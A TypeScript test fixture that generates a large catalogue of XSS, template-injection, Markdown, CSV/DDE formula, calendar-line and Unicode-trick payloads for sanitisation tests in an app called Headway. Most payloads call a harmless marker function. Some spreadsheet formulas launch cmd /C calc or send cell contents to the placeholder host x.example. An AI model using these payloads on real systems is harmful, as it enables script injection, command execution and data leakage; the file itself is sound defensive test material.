/**
 * Text that tries to become something other than text wherever Headway shows or exports it: HTML
 * and script, links with unsafe schemes in the encodings browsers still decode, Markdown that
 * turns into links, images or raw HTML, spreadsheet formulas, calendar lines and Unicode tricks.
 *
 * Every payload that could run in a browser calls one sink, `__pwned(n)`, with its own number
 * (its position in HOSTILE_STRINGS, from 1), so a browser test that installs the sink can say
 * exactly which string ran. Every string fits the shortest text field that takes them (member
 * and workspace names, 100 characters) and keeps something visible after trimming; none holds a
 * NUL.
 */

/** The one function an executed payload calls. */
export const HOSTILE_SINK = '__pwned';

/** A payload written around `s`, the sink call with its number (`__pwned(7)`). */
type Payload = (s: string) => string;

/** Each character as a decimal character reference: `&#95;&#95;…`. */
const decimalRefs = (text: string) => [...text].map((c) => `&#${c.codePointAt(0)};`).join('');
/** Each character as a hexadecimal character reference, without the optional semicolon. */
const hexRefs = (text: string) => [...text].map((c) => `&#x${c.codePointAt(0)?.toString(16)}`).join('');
const base64 = (text: string) => Buffer.from(text, 'utf8').toString('base64');

const SCRIPT_TAGS: Payload[] = [
  (s) => `<script>${s}</script>`,
  (s) => `<SCRIPT>${s}</SCRIPT>`,
  (s) => `<ScRiPt >${s}</sCrIpT >`,
  (s) => `<script type="text/javascript">${s}</script>`,
  (s) => `"><script>${s}</script>`,
  (s) => `'><script>${s}</script>`,
  (s) => `<script src="data:text/javascript,${s}"></script>`,
  (s) => `<script/x>${s}</script>`,
  (s) => `<<script>${s}//<</script>`,
  (s) => `<script\n>${s}</script\n>`,
  (s) => `<scr<script>ipt>${s}</scr</script>ipt>`,
  (s) => `<script>eval(atob('${base64(s)}'))</script>`,
  (s) => `<script>setTimeout('${s}')</script>`,
  (s) => `<!--><script>${s}</script>-->`,
  (s) => `<noscript><p title="</noscript><img src=x onerror=${s}>">`,
  (s) => `<template><script>${s}</script></template>`,
  (s) => `<x:script xmlns:x="http://www.w3.org/1999/xhtml">${s}</x:script>`,
  (s) => `<!--[if gte IE 4]><script>${s}</script><![endif]-->`,
  (s) => `<![CDATA[<script>${s}</script>]]>`,
];

const EVENT_HANDLERS: Payload[] = [
  (s) => `<img src=x onerror=${s}>`,
  (s) => `<img src=x onerror="${s}">`,
  (s) => `<IMG SRC=x OnErRoR=${s}>`,
  (s) => `<img/src=x/onerror=${s}>`,
  (s) => `<img src onerror=${s}>`,
  (s) => `<img src=x onerror  =  ${s} //`,
  (s) => `<img src=x onerror=${decimalRefs(s)}>`,
  (s) => `<image src=x onerror=${s}>`,
  (s) => `<svg onload=${s}>`,
  (s) => `<svg/onload=${s}>`,
  (s) => `<body onload=${s}>`,
  (s) => `<body onpageshow=${s}>`,
  (s) => `<input onfocus=${s} autofocus>`,
  (s) => `<input autofocus onfocus=${s}>`,
  (s) => `<select autofocus onfocus=${s}></select>`,
  (s) => `<textarea autofocus onfocus=${s}></textarea>`,
  (s) => `<button autofocus onfocus=${s}>x</button>`,
  (s) => `<div tabindex=1 autofocus onfocus=${s}>x</div>`,
  (s) => `<details open ontoggle=${s}>`,
  (s) => `<video><source onerror=${s}></video>`,
  (s) => `<audio src=x onerror=${s}>`,
  (s) => `<iframe onload=${s}></iframe>`,
  (s) => `<object data=x onerror=${s}></object>`,
  (s) => `<marquee onstart=${s}>x</marquee>`,
  (s) => `<x onclick=${s}>click me</x>`,
  (s) => `<a onmouseover=${s}>hover me</a>`,
  (s) => `<style onload=${s}></style>`,
  (s) => `<link rel=stylesheet href=x onerror=${s}>`,
  (s) => `<p style="animation:spin 1s" onanimationstart=${s}>x</p>`,
  (s) => `<form><button formaction=javascript:${s}>x</button></form>`,
  (s) => `<isindex type=image src=x onerror=${s}>`,
  (s) => `<img src=x:x onerror=window['${s.replace('(', "'](")}>`,
];

const ATTRIBUTE_BREAKOUTS: Payload[] = [
  (s) => `" onmouseover="${s}`,
  (s) => `' onmouseover='${s}`,
  (s) => `" autofocus onfocus="${s}`,
  (s) => `' autofocus onfocus='${s}' x='`,
  (s) => `\` autofocus onfocus=${s} \``,
  (s) => `"><img src=x onerror=${s}>`,
  (s) => `'><img src=x onerror=${s}>`,
  (s) => `\`><img src=x onerror=${s}>`,
  (s) => `" onerror="${s}" src="x`,
  (s) => `"/><svg onload=${s}>`,
  (s) => `" onfocus=${s} autofocus x="`,
  (s) => `&quot; onfocus=${s} autofocus x=&quot;`,
  (s) => `&#34;><img src=x onerror=${s}>`,
  (s) => `critical" onclick="${s}`,
  (s) => `band-strong onclick=${s}`,
];

const UNSAFE_SCHEMES: Payload[] = [
  (s) => `javascript:${s}`,
  (s) => `JavaScript:${s}`,
  (s) => `JAVASCRIPT:${s}`,
  (s) => ` javascript:${s}`,
  (s) => `java\tscript:${s}`,
  (s) => `java\nscript:${s}`,
  (s) => `java\rscript:${s}`,
  (s) => `\u0001javascript:${s}`,
  (s) => `javascript\t:${s}`,
  (s) => `jav&#x09;ascript:${s}`,
  (s) => `&#106;avascript:${s}`,
  (s) => `&#x6A;avascript:${s}`,
  (s) => `&#0000106;avascript:${s}`,
  (s) => `javascript&colon;${s}`,
  (s) => `javas&#99;ript:${s}`,
  (s) => `${hexRefs('javascript:')}${s}`,
  (s) => `javascript://%0a${s}`,
  (s) => `javascript://x%0D%0A${s}`,
  (s) => `%6Aavascript:${s}`,
  (s) => `\\u006aavascript:${s}`,
  (s) => `jav\u00adascript:${s}`,
  (s) => `data:text/html,<script>${s}</script>`,
  (s) => `data:text/html;base64,${base64(`<script>${s}</script>`)}`,
  (s) => `DATA:text/html,<svg onload=${s}>`,
  (s) => `data:image/svg+xml,<svg onload=${s}>`,
  (s) => `data:text/javascript,${s}`,
  (s) => `vbscript:${s}`,
  (s) => `VBScript:${s}`,
  (s) => `livescript:${s}`,
  (s) => `javascript:/*</title></style></textarea></script><svg/onload=${s}>`,
];

const UNSAFE_LINKS: Payload[] = [
  (s) => `<a href="javascript:${s}">x</a>`,
  (s) => `<a href=javascript:${s}>x</a>`,
  (s) => `<a href="&#106;avascript:${s}">x</a>`,
  (s) => `<a href=" javascript:${s}">x</a>`,
  (s) => `<a href="java&#x09;script:${s}">x</a>`,
  (s) => `<a href="vbscript:${s}">x</a>`,
  (s) => `<a href="data:text/html,<script>${s}</script>">x</a>`,
  (s) => `<iframe src="javascript:${s}"></iframe>`,
  (s) => `<iframe srcdoc="<script>top.${s}</script>"></iframe>`,
  (s) => `<embed src="javascript:${s}">`,
  (s) => `<object data="javascript:${s}"></object>`,
  (s) => `<form action="javascript:${s}"><input type=submit></form>`,
  (s) => `<meta http-equiv="refresh" content="0;url=javascript:${s}">`,
  (s) => `<base href="javascript:${s}//">`,
  (s) => `<area href=javascript:${s}>`,
  (s) => `<link rel=import href="data:text/html,<script>${s}</script>">`,
];

const SVG_AND_MATHML: Payload[] = [
  (s) => `<svg><script>${s}</script></svg>`,
  (s) => `<svg><a xlink:href="javascript:${s}"><text y=20>x</text></a></svg>`,
  (s) => `<svg><animate onbegin=${s} attributeName=x dur=1s>`,
  (s) => `<svg><set onbegin=${s} attributeName=x to=1>`,
  (s) => `<svg><foreignObject><img src=x onerror=${s}></foreignObject></svg>`,
  (s) => `<svg><style><img src=x onerror=${s}></style></svg>`,
  (s) => `<svg><image href=x onerror=${s}></svg>`,
  (s) => `<svg><discard onbegin=${s}></svg>`,
  (s) => `<math><mtext><table><mglyph><style><img src=x onerror=${s}>`,
  (s) => `<math href="javascript:${s}">x</math>`,
  (s) => `<math><maction actiontype=statusline xlink:href=javascript:${s}>x</maction></math>`,
  (s) => `<svg><animate href=#a attributeName=href values=javascript:${s} /><a id=a><text>x`,
];

const CONTEXT_BREAKOUTS: Payload[] = [
  (s) => `</textarea><script>${s}</script>`,
  (s) => `</title><script>${s}</script>`,
  (s) => `</style><script>${s}</script>`,
  (s) => `</script><img src=x onerror=${s}>`,
  (s) => `</noscript><img src=x onerror=${s}>`,
  (s) => `</xmp><img src=x onerror=${s}>`,
  (s) => `</iframe><img src=x onerror=${s}>`,
  (s) => `</template><img src=x onerror=${s}>`,
  (s) => `]]><img src=x onerror=${s}>`,
  (s) => `--><img src=x onerror=${s}>`,
  (s) => `</option></select><img src=x onerror=${s}>`,
  (s) => `</textarea ><svg onload=${s}>`,
  (s) => `<!--<img src="--><img src=x onerror=${s}//">`,
  (s) => `</script><script>${s}//`,
  (s) => `';${s};//`,
  (s) => `";${s};//`,
  (s) => `\\";${s};//`,
  (s) => `'};${s};{'`,
];

const CSS_PAYLOADS: Payload[] = [
  (s) => `<style>@import 'javascript:${s}';</style>`,
  (s) => `<div style="background:url(javascript:${s})">x</div>`,
  (s) => `<div style="width:expression(${s})">x</div>`,
  (s) => `x" style="background-image:url(javascript:${s})`,
  (s) => `<style>*{background:url("javascript:${s}")}</style>`,
  (s) => `</style><style>*{x:expression(${s})}</style>`,
  (s) => `<link rel=stylesheet href="data:text/css,*{x:expression(${s})}">`,
  (s) => `expression(${s})`,
  (s) => `url(javascript:${s})`,
  (s) => `100%;background:url(javascript:${s})`,
];

const TEMPLATE_INJECTION: Payload[] = [
  (s) => `{{constructor.constructor('${s}')()}}`,
  (s) => `{{$on.constructor('${s}')()}}`,
  (s) => `\${${s}}`,
  (s) => `#{${s}}`,
  (s) => `<%= ${s} %>`,
  (s) => `{{${s}}}`,
  (s) => `[[${s}]]`,
  (s) => `{% ${s} %}`,
  (s) => `{{=${s}}}`,
  (s) => `<div v-html="'<img src=x onerror=${s}>'"></div>`,
  (s) => `{{'a'.constructor.prototype.charAt=[].join;$eval('x=${s}')}}`,
];

const MARKDOWN: Payload[] = [
  (s) => `[x](javascript:${s})`,
  (s) => `[x](JAVASCRIPT:${s})`,
  (s) => `[x](<javascript:${s}>)`,
  (s) => `[x](&#106;avascript:${s})`,
  (s) => `[x](javascript&#58;${s})`,
  (s) => `[x](vbscript:${s})`,
  (s) => `[x](data:text/html;base64,${base64(`<script>${s}</script>`)})`,
  (s) => `[x](javascript:${s} "title")`,
  (s) => `[x](#" onclick="${s})`,
  (s) => `[x](java%0Ascript:${s})`,
  (s) => `![x](x" onerror="${s})`,
  (s) => `![x](x"onerror="${s}")`,
  (s) => `![x](javascript:${s})`,
  (s) => `![x](https://x.example/a.png" onerror="${s})`,
  (s) => `<javascript:${s}>`,
  (s) => `<JAVASCRIPT:${s}>`,
  (s) => `<vbscript:${s}>`,
  (s) => `<data:text/html,<script>${s}</script>>`,
  (s) => `[x][r]\n\n[r]: javascript:${s}`,
  (s) => `[r]\n\n[r]: javascript:${s} "t"`,
  (s) => `![x][r]\n\n[r]: javascript:${s}`,
  (s) => `<div>\n<img src=x onerror=${s}>\n</div>`,
  (s) => `<details>\n\n<img src=x onerror=${s}>\n\n</details>`,
  (s) => `[<img src=x onerror=${s}>](https://x.example)`,
  (s) => `[x](https://x.example "\\"><img src=x onerror=${s}>")`,
  (s) => `\`<script>${s}</script>\``,
  (s) => `\`\`\`html\n<script>${s}</script>\n\`\`\``,
  (s) => `| a | <img src=x onerror=${s}> |\n| - | - |`,
  (s) => `> <img src=x onerror=${s}>`,
  (s) => `- [ ] <img src=x onerror=${s}>`,
  (s) => `www.x.example/"onmouseover="${s}`,
  (s) => `https://x.example/?<img src=x onerror=${s}>`,
  (s) => `~~<img src=x onerror=${s}>~~`,
  (s) => `**<svg onload=${s}>**`,
  (s) => `[^1]\n\n[^1]: <img src=x onerror=${s}>`,
  (s) => `\n# heading\n<script>${s}</script>`,
  // Jira wiki links and images, as imported descriptions carry them.
  (s) => `[x|javascript:${s}]`,
  (s) => `[javascript:${s}]`,
  (s) => `!javascript:${s}!`,
  (s) => `!x.png|onerror=${s}!`,
];

// Formulas a spreadsheet would run (CSV injection, DDE): inert in a browser, so no sink.
const SPREADSHEET_FORMULAS: Payload[] = [
  () => '=1+1',
  () => "=cmd|' /C calc'!A0",
  () => '+1+1',
  () => '-1+1',
  () => "@SUM(1+1)*cmd|' /C calc'!A0",
  () => '\t=1+1',
  () => '\r=1+1',
  () => '=HYPERLINK("https://x.example/?leak="&A1,"click")',
  () => '=IMPORTXML(CONCAT("https://x.example/?",A1),"//a")',
  () => '=DDE("cmd";"/C calc";"A1")',
  () => '=WEBSERVICE("https://x.example/")',
  () => "-2+3+cmd|' /C calc'!A0",
  () => "+cmd|' /C calc'!A0",
  () => "@cmd|' /C calc'!A0",
  () => '=1+1\n=2+2',
  () => '"=1+1"',
  () => ',=1+1',
  () => 'x","=1+1',
  () => 'x\r\n=1+1,=2+2',
  () => ' =1+1',
];

// Line breaks that try to end a calendar property and start another.
const CALENDAR_LINES: Payload[] = [
  () => 'x\r\nEND:VEVENT\r\nBEGIN:VEVENT\r\nSUMMARY:injected',
  () => 'x\nATTACH:https://x.example/a',
  () => 'x\r\nX-INJECTED:1',
  () => 'x\rORGANIZER:mailto:x@x.example',
  () => 'x;VALUE=URI:javascript:x',
  () => 'x\\nDESCRIPTION:x',
  () => 'x,y;z\\',
  () => 'x\u2028END:VCALENDAR',
  () => 'x\r\nBEGIN:VALARM\r\nACTION:AUDIO\r\nEND:VALARM',
];

const UNICODE_TRICKS: Payload[] = [
  () => 'invoice\u202Egpj.exe',
  () => 'admin\u202E\u2066x\u2069',
  (s) => `\u200Bjavascript:${s}`,
  (s) => `java\u200Bscript:${s}`,
  (s) => `\uFEFF<script>${s}</script>`,
  (s) => `\u2028<script>${s}</script>`,
  (s) => `\u2029<img src=x onerror=${s}>`,
  (s) => `<scr\u200Bipt>${s}</scr\u200Bipt>`,
  (s) => `\uFF1Cscript\uFF1E${s}\uFF1C/script\uFF1E`,
  (s) => `\uFF1Cimg src=x onerror=${s}\uFF1E`,
  (s) => `<img src=x onerror=${s}>\u0301`,
  () => '\u061C\u2066\u2067\u2068\u2069x',
  (s) => `\uD800<script>${s}</script>`,
  (s) => `&lt;script&gt;${s}&lt;/script&gt;`,
  (s) => `&amp;lt;img src=x onerror=${s}&amp;gt;`,
];

const FAMILIES: Payload[][] = [
  SCRIPT_TAGS,
  EVENT_HANDLERS,
  ATTRIBUTE_BREAKOUTS,
  UNSAFE_SCHEMES,
  UNSAFE_LINKS,
  SVG_AND_MATHML,
  CONTEXT_BREAKOUTS,
  CSS_PAYLOADS,
  TEMPLATE_INJECTION,
  MARKDOWN,
  SPREADSHEET_FORMULAS,
  CALENDAR_LINES,
  UNICODE_TRICKS,
];

/** Every hostile string, the n-th (from 1) calling `__pwned(n)` if it ever runs. */
export const HOSTILE_STRINGS: readonly string[] = FAMILIES.flat().map((payload, index) =>
  payload(`${HOSTILE_SINK}(${index + 1})`),
);

// A high surrogate not followed by a low one, or a low one not preceded by a high one.
const LONE_SURROGATE = /[\uD800-\uDBFF](?![\uDC00-\uDFFF])|(?<![\uD800-\uDBFF])[\uDC00-\uDFFF]/;

/**
 * The strings the API stores: it refuses text holding a lone surrogate with a 400
 * (test/api/bad-input.test.ts), so tests that write through it leave those out.
 */
export const STORABLE_HOSTILE_STRINGS: readonly string[] = HOSTILE_STRINGS.filter(
  (text) => !LONE_SURROGATE.test(text),
);

/**
 * Groups strings, in order and each kept whole, so that each group joined by a space fits a field
 * of `limit` characters: every string reaches a short field (a name) in fewer writes.
 */
export function groupToFit(texts: readonly string[], limit: number): string[][] {
  const groups: string[][] = [];
  let current: string[] = [];
  for (const text of texts) {
    if (current.length > 0 && [...current, text].join(' ').length > limit) {
      groups.push(current);
      current = [];
    }
    current.push(text);
  }
  if (current.length > 0) groups.push(current);
  return groups;
}
